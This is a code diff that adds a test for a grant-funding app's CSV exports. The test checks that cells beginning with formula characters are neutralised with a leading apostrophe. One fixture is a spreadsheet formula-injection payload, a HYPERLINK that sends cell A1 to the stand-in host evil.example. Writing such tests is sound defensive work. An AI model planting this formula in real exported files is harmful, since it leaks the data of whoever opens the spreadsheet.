@@ -191,3 +191,29 @@ async def test_amounts_are_written_digit_for_digit(stack: Stack) -> None:
     await f.awarded(amount_awarded=9007199254740993)
     response = await stack.funding.get("/api/v1/exports/360giving", headers=f.staff)
     assert b'"amountAwarded":90071992547409.93,' in response.content
+
+
+async def test_csv_cells_never_run_as_spreadsheet_formulas(stack: Stack) -> None:
+    """A partner named ``=HYPERLINK(...)`` comes out as text in every CSV, the public one too."""
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    f = await new_funder(stack, name=formula)
+    await f.awarded(
+        title="+SUM(1,2)",
+        description="-2+3 @home\tand more",
+        amount_awarded=9000000,
+    )
+    response = await stack.funding.put(
+        "/api/v1/funder-settings", headers=f.staff, json={"publish_360giving": True}
+    )
+    assert response.status_code == 200, response.text
+    public = f"/api/v1/public/funding/{f.funder['slug']}/360giving.csv"
+    for url, headers in (("/api/v1/exports/360giving.csv", f.staff), (public, {})):
+        response = await stack.funding.get(url, headers=headers)
+        assert response.status_code == 200, response.text
+        (row,) = list(csv.DictReader(io.StringIO(response.text)))
+        assert row["Recipient Org:Name"] == "'" + formula
+        assert row["Title"] == "'+SUM(1,2)"
+        assert row["Description"] == "'-2+3 @home\tand more"
+        assert row["Amount Awarded"] == "90000.00"  # a plain number stays a number
+        risky = [v for v in row.values() if v and v[0] in "=+-@\t\r"]
+        assert not risky, risky
